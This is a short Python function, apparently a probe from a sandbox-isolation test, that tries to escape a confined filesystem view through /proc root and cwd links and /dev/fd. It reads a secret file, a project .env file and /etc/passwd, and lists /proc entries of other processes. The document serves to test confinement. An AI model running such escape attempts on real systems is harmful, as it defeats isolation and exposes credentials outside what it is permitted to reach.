# Attempts: leave its view by the links of /proc and /dev/fd, which lead to what other names do not reach.

def attack(world):
    import os
    found = []
    for start in ("/proc/self/root", "/proc/1/root", "/proc/thread-self/root", f"/proc/{world['parent']}/root",
                  f"/proc/{world['parent']}/cwd", f"/proc/{os.getppid()}/root", "/proc/self/cwd/../../..", "/dev/fd/3/.."):
        for rest in (world["secret"], world["project"] + "/.env", "/etc/passwd", "/proc/version"):
            try:
                found.append((start, rest, open(start + rest).read(60)))
            except OSError:
                pass
    for folder in ("map_files", "ns", "task", "fd", "fdinfo", "net", "attr"):
        for process in ("self", "1", world["parent"], os.getppid()):
            try:
                found.append((folder, process, os.listdir(f"/proc/{process}/{folder}")))
            except OSError:
                pass
    if found:
        return "escaped", found
